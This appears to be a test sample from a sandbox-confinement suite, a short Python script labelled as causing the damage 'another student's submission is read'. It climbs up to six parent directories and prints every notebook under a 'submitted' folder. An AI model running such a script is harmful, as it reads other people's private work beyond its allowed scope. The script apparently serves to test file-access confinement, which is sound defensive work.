# kind: read
# damage: another student's submission is read
# unconfined: yes
import glob
for depth in range(1, 7):
    for path in glob.glob("../" * depth + "submitted/**/*.ipynb", recursive=True):
        print(open(path).read())
